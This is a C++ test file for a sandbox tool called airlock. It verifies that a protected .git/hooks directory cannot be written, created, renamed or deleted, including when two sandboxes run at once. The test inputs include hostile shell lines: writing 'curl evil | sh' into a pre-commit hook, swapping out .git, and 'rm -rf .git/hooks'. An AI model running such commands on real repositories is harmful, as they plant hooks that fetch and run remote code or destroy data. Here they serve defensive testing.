// Protected paths (.git/hooks here) stay read-only inside the writable workspace, whether
// they exist or not, and placeholders for missing ones never outlive the sandboxes using them.
#include <chrono>
#include <thread>

#include "escape_harness.hpp"

using namespace airlock::escape;

namespace {

const std::string kProtectHooks = R"("sandbox": {"protected_paths": [".git/hooks"]})";

bool appears_within(const fs::path& path, std::chrono::seconds limit) {
    // A bounded busy-wait on a file the other side creates (no sleeping).
    const auto deadline = std::chrono::steady_clock::now() + limit;
    while (std::chrono::steady_clock::now() < deadline) {
        if (fs::exists(path)) return true;
        std::this_thread::yield();
    }
    return fs::exists(path);
}

}  // namespace

TEST_CASE("protected .git/hooks that exists: no hook can be written") {
    Scenario s;
    fs::create_directories(s.ws() / ".git" / "hooks");
    auto r = s.sh("echo 'curl evil | sh' > .git/hooks/pre-commit", kProtectHooks);
    if (under_seccomp()) {
        // Landlock cannot keep a path read-only inside a writable root: airlock refuses.
        require_refused_by_sandbox(r, (s.ws() / ".git/hooks").string());
        CHECK_FALSE(fs::exists(s.ws() / ".git/hooks/pre-commit"));
        CHECK(s.sh("echo 'repo' > .git/description").exit_code == 0);  // unprotected, it runs
        return;
    }
    require_sandboxed(r);
    CHECK(r.exit_code != 0);
    CHECK(contains(field(r, "stderr"), "Read-only file system"));
    CHECK_FALSE(fs::exists(s.ws() / ".git/hooks/pre-commit"));
    // Positive control: the rest of .git (but its floor entries) is writable under the same policy.
    auto ok = s.sh("echo 'repo' > .git/description", kProtectHooks);
    CHECK(ok.exit_code == 0);
    CHECK(read_text(s.ws() / ".git/description") == "repo\n");
}

TEST_CASE("protected .git/hooks that does not exist yet cannot be created, and leaves nothing") {
    Scenario s;
    fs::create_directories(s.ws() / ".git");
    auto r =
        s.sh("mkdir -p .git/hooks && echo 'curl evil | sh' > .git/hooks/pre-commit", kProtectHooks);
    if (under_seccomp()) {
        require_refused_by_sandbox(r, (s.ws() / ".git/hooks").string());
        CHECK_FALSE(fs::exists(fs::symlink_status(s.ws() / ".git/hooks")));
        CHECK(s.sh("mkdir -p .git/info").exit_code == 0);
        return;
    }
    require_sandboxed(r);
    CHECK(r.exit_code != 0);
    // No hook, and no placeholder left on the host after the call.
    CHECK_FALSE(fs::exists(fs::symlink_status(s.ws() / ".git/hooks")));
    auto ro = result(r)["sandbox"]["effective"]["filesystem"]["read_only"].dump();
    CHECK(contains(ro, (s.ws() / ".git/hooks").string()));
    // Positive control: a sibling that is not protected can be created.
    auto ok = s.sh("mkdir -p .git/info && echo x > .git/info/exclude", kProtectHooks);
    CHECK(ok.exit_code == 0);
    CHECK(fs::exists(s.ws() / ".git/info/exclude"));
}

TEST_CASE("a protected directory cannot be renamed away or replaced") {
    Scenario s;
    fs::create_directories(s.ws() / ".git" / "hooks");
    write_text(s.ws() / ".git/hooks/pre-commit.sample", "sample\n");
    for (const std::string attack :
         {"mv .git/hooks moved",
          "mv .git .git-old && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit",
          "rm -rf .git/hooks"}) {
        CAPTURE(attack);
        auto r = s.sh(attack, kProtectHooks);
        if (under_seccomp()) require_refused_by_sandbox(r, (s.ws() / ".git/hooks").string());
        CHECK(r.exit_code != 0);
        CHECK(read_text(s.ws() / ".git/hooks/pre-commit.sample") == "sample\n");
        CHECK_FALSE(fs::exists(s.ws() / ".git/hooks/pre-commit"));
    }
    // `mv` falls back to copying when rename fails, so a copy named "moved" may exist; what
    // matters is that the protected original stayed where git looks for it, unchanged.
    CHECK(fs::is_directory(s.ws() / ".git/hooks"));
    // Positive control: an unprotected sibling directory can be renamed.
    fs::create_directories(s.ws() / ".git" / "info");
    auto ok = s.sh("mv .git/info .git/info-old", under_seccomp() ? "" : kProtectHooks);
    CHECK(ok.exit_code == 0);
    CHECK(fs::exists(s.ws() / ".git/info-old"));
}

TEST_CASE("two concurrent sandboxes keep each other's placeholder for a missing protected path") {
    Scenario s;
    if (under_seccomp()) {
        // No placeholders without mounts: the policy is refused (see the scenario above).
        fs::create_directories(s.ws() / ".git");
        require_refused_by_sandbox(s.sh("true", kProtectHooks), ".git/hooks");
        CHECK(s.sh("mkdir -p .git/hooks").exit_code == 0);  // positive control: unprotected
        return;
    }
    fs::create_directories(s.ws() / ".git");
    const fs::path policy = s.outside() / "protect.json";
    write_text(policy, allow_all_policy(kProtectHooks + R"(, "limits": {"timeout_seconds": 60})"));
    auto run = [&](const std::string& script) {
        return s.airlock({"exec", "--json", "--no-builtin-policy", "--policy", policy.string(),
                          "--sandbox", adapter_under_test(), "--", "sh", "-c", script});
    };
    const fs::path hooks = s.ws() / ".git/hooks";
    // A holds its sandbox open until the test says B is done, then tries to create the hook.
    Ran a;
    std::thread first([&] {
        a =
            run("touch a-started; until [ -e b-done ]; do :; done; "
                "mkdir -p .git/hooks 2>/dev/null && echo A-MKDIR; "
                "echo evil > .git/hooks/pre-commit 2>/dev/null && echo A-WROTE; true");
    });
    const bool started = appears_within(s.ws() / "a-started", std::chrono::seconds(30));
    CHECK(started);
    const bool placeholder_during_a = fs::exists(fs::symlink_status(hooks));
    // B uses the same placeholder and finishes while A still runs.
    auto b = run("mkdir -p .git/hooks/x 2>/dev/null && echo B-MKDIR; true");
    const bool placeholder_after_b = fs::exists(fs::symlink_status(hooks));
    write_text(s.ws() / "b-done", "");
    first.join();

    CHECK(placeholder_during_a);
    CHECK(placeholder_after_b);  // B did not remove what A still relies on
    CHECK(b.exit_code == 0);
    CHECK_FALSE(contains(field(b, "stdout"), "B-MKDIR"));
    CHECK(a.exit_code == 0);
    CHECK_FALSE(contains(field(a, "stdout"), "A-MKDIR"));
    CHECK_FALSE(contains(field(a, "stdout"), "A-WROTE"));
    // Once the last sandbox is gone, so is the placeholder.
    CHECK_FALSE(fs::exists(fs::symlink_status(hooks)));
    // Positive control: without the protection (and with the floor's entry lifted) the same
    // script creates the hook.
    write_text(policy, allow_all_policy(""));
    auto ok = s.airlock({"exec", "--json", "--no-builtin-policy", "--policy", policy.string(),
                         "--sandbox", adapter_under_test(), "--unprotect", ".git/hooks", "--", "sh",
                         "-c", "mkdir -p .git/hooks && echo fine > .git/hooks/pre-commit"});
    CHECK(ok.exit_code == 0);
    CHECK(fs::exists(s.ws() / ".git/hooks/pre-commit"));
}
